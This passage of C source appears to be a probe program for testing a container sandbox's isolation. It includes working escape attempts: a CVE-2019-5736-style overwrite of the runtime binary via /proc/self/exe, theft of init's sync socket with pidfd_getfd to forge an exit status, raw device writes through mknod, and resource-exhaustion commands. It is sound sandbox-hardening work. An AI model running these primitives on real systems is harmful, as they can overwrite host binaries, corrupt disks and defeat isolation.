    printf("{\"session\": %ld, \"session_errno\": %d, \"user\": %ld, \"key\": %ld, "
           "\"key_errno\": %d, \"read_errno\": %d, \"data\": ",
           sid, sid_err, uid_ring, key, key_err, read_err);
    jstr(n > 0 ? data : "");
    printf(", \"user_key\": %ld, \"user_key_errno\": %d, \"user_read_errno\": %d, "
           "\"user_data\": ",
           ukey, ukey_err, uread_err);
    jstr(un > 0 ? udata : "");
    printf("}\n");
}

/* open path read-only: what it is (link, device, inode), and whether the same
 * file reopens for writing through /proc/self/fd */
static void exe_info(const char *path)
{
    char link[4096], fdpath[64];
    struct stat st;
    ssize_t n = readlink(path, link, sizeof(link) - 1);
    int fd = open(path, O_RDONLY | O_CLOEXEC), open_err = fd < 0 ? errno : 0;
    link[n > 0 ? n : 0] = '\0';
    printf("{\"link\": ");
    jstr(link);
    printf(", \"open_errno\": %d", open_err);
    if (fd >= 0 && fstat(fd, &st) == 0) {
        snprintf(fdpath, sizeof(fdpath), "/proc/self/fd/%d", fd);
        printf(", \"dev\": %llu, \"ino\": %llu, \"wronly_errno\": %d, \"rdwr_errno\": %d",
               (unsigned long long)st.st_dev, (unsigned long long)st.st_ino,
               open_errno(fdpath, O_WRONLY), open_errno(fdpath, O_RDWR));
    }
    printf("}\n");
}

/* CVE-2019-5736: fd (from /proc/self/exe, opened by the fake ld.so) reopened for
 * writing as soon as nobody runs that file; writes a marker at offset 0.  The
 * result goes to stdout and to the file `result`. */
static void hold_exe(int fd, int seconds, const char *result)
{
    char fdpath[64], link[4096], out[8192];
    struct stat st;
    time_t deadline = time(NULL) + seconds;
    int wfd = -1, first_err = 0, written = 0, len;
    ssize_t n;
    snprintf(fdpath, sizeof(fdpath), "/proc/self/fd/%d", fd);
    n = readlink(fdpath, link, sizeof(link) - 1);
    link[n > 0 ? n : 0] = '\0';
    if (fstat(fd, &st) < 0)
        memset(&st, 0, sizeof(st));
    while (time(NULL) < deadline) {
        wfd = open(fdpath, O_WRONLY | O_CLOEXEC);
        if (wfd >= 0)
            break;
        if (!first_err)
            first_err = errno;
        if (errno != ETXTBSY)
            break;
        usleep(2000);
    }
    if (wfd >= 0) {
        written = pwrite(wfd, "PYNSBIND-OVERWRITTEN", 20, 0) == 20;
        close(wfd);
    }
    len = snprintf(out, sizeof(out),
                   "{\"pid\": %d, \"link\": \"%s\", \"dev\": %llu, \"ino\": %llu, "
                   "\"first_errno\": %d, \"opened_for_write\": %s, \"written\": %s}\n",
                   getpid(), link, (unsigned long long)st.st_dev, (unsigned long long)st.st_ino,
                   first_err, wfd >= 0 ? "true" : "false", written ? "true" : "false");
    fputs(out, stdout);
    {
        char tmp[4200];
        int rfd;
        snprintf(tmp, sizeof(tmp), "%s.tmp", result);
        rfd = open(tmp, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
        if (rfd >= 0) {
            if (write(rfd, out, (size_t)len) != len)
                perror("write");
            close(rfd);
            rename(tmp, result);
        }
    }
}

/* the init's sync socket, taken with pidfd_getfd: tell the spawner that the
 * command exited with `status` (a wait status) */
static void forge_exit(int status)
{
    int pfd = (int)syscall(SYS_pidfd_open, 1, 0), fd, sent = 0, err = 0;
    char path[64], link[128];
    if (pfd < 0) {
        printf("{\"sent\": 0, \"errno\": %d}\n", errno);
        return;
    }
    for (fd = 3; fd < 64; fd++) {
        ssize_t n;
        int sock;
        struct {
            unsigned int type;
            int stage, op, err;
            long long val;
        } m = {6 /* NSB_MSG_EXIT */, 5, 0, 0, status};
        snprintf(path, sizeof(path), "/proc/1/fd/%d", fd);
        n = readlink(path, link, sizeof(link) - 1);
        if (n <= 0) {
            if (errno != ENOENT)
                err = errno;
            continue;
        }
        link[n] = '\0';
        if (strncmp(link, "socket:", 7))
            continue;
        sock = (int)syscall(438 /* pidfd_getfd */, pfd, fd, 0);
        if (sock < 0) {
            err = errno;
            continue;
        }
        if (send(sock, &m, sizeof(m), MSG_NOSIGNAL) == (ssize_t)sizeof(m))
            sent++;
        else
            err = errno;
        close(sock);
    }
    close(pfd);
    printf("{\"sent\": %d, \"errno\": %d}\n", sent, err);
}

/* mknod a block or character device, read 16 bytes, write data at offset 0 */
static void devrw(const char *path, const char *type, int major, int minor, const char *data)
{
    char buf[17], hex[40];
    int mk, fd, rd_err = 0, wr_err = 0, i;
    ssize_t n = -1, w = -1;
    mk = mknod(path, (type[0] == 'b' ? S_IFBLK : S_IFCHR) | 0600, makedev(major, minor)) == 0
             ? 0
             : errno;
    fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        rd_err = errno;
    else {
        n = pread(fd, buf, 16, 0);
        if (n < 0)
            rd_err = errno;
        close(fd);
    }
    hex[0] = '\0';
    for (i = 0; i < n && i < 16; i++)
        snprintf(hex + 2 * i, 3, "%02x", (unsigned char)buf[i]);
    fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0)
        wr_err = errno;
    else {
        w = pwrite(fd, data, strlen(data), 0);
        if (w < 0)
            wr_err = errno;
        if (fsync(fd) < 0 && !wr_err)
            wr_err = errno;
        close(fd);
    }
    printf("{\"mknod_errno\": %d, \"read_errno\": %d, \"read_hex\": \"%s\", "
           "\"write_errno\": %d, \"written\": %zd}\n",
           mk, rd_err, hex, wr_err, w);
}

int main(int argc, char **argv)
{
    const char *cmd = argc > 1 ? argv[1] : "info";
    setvbuf(stdout, NULL, _IOFBF, 1 << 16);
    if (!strcmp(cmd, "info")) {
        info();
    } else if (!strcmp(cmd, "exit") && argc > 2) {
        return atoi(argv[2]);
    } else if (!strcmp(cmd, "raise") && argc > 2) {
        signal(atoi(argv[2]), SIG_DFL);
        kill(getpid(), atoi(argv[2]));
        raise(atoi(argv[2]));
        return 100;
    } else if (!strcmp(cmd, "sleep") && argc > 2) {
        struct timespec ts = {atoi(argv[2]), 0};
        printf("{\"sleeping\": %d}\n", getpid());
        fflush(stdout);
        while (nanosleep(&ts, &ts) < 0 && errno == EINTR)
            ;
    } else if (!strcmp(cmd, "write") && argc > 2) {
        int fd = open(argv[2], O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
        int ok = fd >= 0 && write(fd, "x", 1) == 1;
        if (fd >= 0)
            close(fd);
        result_errno(ok);
    } else if (!strcmp(cmd, "mkdir") && argc > 2) {
        result_errno(mkdir(argv[2], 0755) == 0);
    } else if (!strcmp(cmd, "kill") && argc > 3) {
        result_errno(kill(atoi(argv[2]), atoi(argv[3])) == 0);
    } else if (!strcmp(cmd, "sethostname") && argc > 2) {
        result_errno(sethostname(argv[2], strlen(argv[2])) == 0);
    } else if (!strcmp(cmd, "forks") && argc > 2) {
        int want = atoi(argv[2]), k, err = 0;
        pid_t *pids = calloc((size_t)(want > 0 ? want : 1), sizeof(pid_t));
        for (k = 0; k < want; k++) {
            pid_t pid = fork();
            if (pid == 0) {
                pause();
                _exit(0);
            }
            if (pid < 0) {
                err = errno;
                break;
            }
            pids[k] = pid;
        }
        printf("{\"forked\": %d, \"errno\": %d}\n", k, err);
        fflush(stdout);
        while (k-- > 0) {
            kill(pids[k], SIGKILL);
            waitpid(pids[k], NULL, 0);
        }
    } else if (!strcmp(cmd, "alloc") && argc > 2) {
        size_t mib = (size_t)atol(argv[2]), i;
        for (i = 0; i < mib; i++) {
            char *p = malloc(1 << 20);
            if (!p)
                return 3;
            memset(p, 1, 1 << 20);
        }
        printf("{\"allocated\": %zu}\n", mib);
    } else if (!strcmp(cmd, "spin") && argc > 2) {
        time_t end = time(NULL) + atoi(argv[2]);
        volatile unsigned long x = 0;
        while (time(NULL) < end)
            x++;
    } else if (!strcmp(cmd, "connect") && argc > 3) {
        struct sockaddr_in sa;
        int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), ok;
        memset(&sa, 0, sizeof(sa));
        sa.sin_family = AF_INET;
        sa.sin_port = htons((unsigned short)atoi(argv[3]));
        inet_pton(AF_INET, argv[2], &sa.sin_addr);
        ok = connect(s, (struct sockaddr *)&sa, sizeof(sa)) == 0;
        result_errno(ok);
    } else if (!strcmp(cmd, "ifaces")) {
        ifaces();
    } else if (!strcmp(cmd, "shm_create") && argc > 2) {
        int id = shmget((key_t)atoi(argv[2]), 4096, IPC_CREAT | IPC_EXCL | 0600);
        printf("{\"id\": %d, \"errno\": %d}\n", id, id < 0 ? errno : 0);
    } else if (!strcmp(cmd, "shm_find") && argc > 2) {
        int id = shmget((key_t)atoi(argv[2]), 0, 0);
        printf("{\"id\": %d, \"errno\": %d}\n", id, id < 0 ? errno : 0);
    } else if (!strcmp(cmd, "mq_create") && argc > 2) {
        mqd_t q = mq_open(argv[2], O_CREAT | O_EXCL | O_RDWR, 0600, NULL);
        printf("{\"errno\": %d}\n", q == (mqd_t)-1 ? errno : 0);
    } else if (!strcmp(cmd, "mq_find") && argc > 2) {
        mqd_t q = mq_open(argv[2], O_RDWR);
        printf("{\"errno\": %d}\n", q == (mqd_t)-1 ? errno : 0);
    } else if (!strcmp(cmd, "stat") && argc > 2) {
        struct stat st;
        if (stat(argv[2], &st) < 0)
            printf("{\"errno\": %d}\n", errno);
        else
            printf("{\"errno\": 0, \"uid\": %u, \"gid\": %u, \"mode\": %u}\n", st.st_uid, st.st_gid,
                   st.st_mode);
    } else if (!strcmp(cmd, "capcheck")) {
        capcheck();
    } else if (!strcmp(cmd, "ps")) {
        ps();
    } else if (!strcmp(cmd, "snoop") && argc > 3) {
        snoop(atoi(argv[2]), argv[3], argc > 4 ? atoi(argv[4]) : 0,
              argc > 5 && !strcmp(argv[5], "write"));
    } else if (!strcmp(cmd, "freeze") && argc > 2) {
        freeze(atoi(argv[2]));
    } else if (!strcmp(cmd, "swap") && argc > 4) {
        swap_paths(argv[2], argv[3], atoi(argv[4]));
    } else if (!strcmp(cmd, "procsys")) {
        procsys();
    } else if (!strcmp(cmd, "tiocsti") && argc > 2) {
        tiocsti(argv[2]);
    } else if (!strcmp(cmd, "syscalls")) {
        syscalls();
    } else if (!strcmp(cmd, "keyring") && argc > 2) {
        keyring(argv[2]);
    } else if (!strcmp(cmd, "exe") && argc > 2) {
        exe_info(argv[2]);
    } else if (!strcmp(cmd, "hold-exe") && argc > 4) {
        hold_exe(atoi(argv[2]), atoi(argv[3]), argv[4]);
    } else if (!strcmp(cmd, "forge-exit") && argc > 2) {
        forge_exit(atoi(argv[2]));
    } else if (!strcmp(cmd, "connect_unix") && argc > 2) {
        struct sockaddr_un sa;
        int sock = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
        memset(&sa, 0, sizeof(sa));
        sa.sun_family = AF_UNIX;
        snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", argv[2]);
        result_errno(sock >= 0 && connect(sock, (struct sockaddr *)&sa, sizeof(sa)) == 0);
    } else if (!strcmp(cmd, "devrw") && argc > 6) {
        devrw(argv[2], argv[3], atoi(argv[4]), atoi(argv[5]), argv[6]);
    } else if (!strcmp(cmd, "cat") && argc > 2) {
        printf("{\"text\": ");
        jfile(argv[2]);
        printf("}\n");
    } else {
        fprintf(stderr, "probe: unknown command %s\n", cmd);
        return 2;
    }
    fflush(stdout);
    return 0;
}
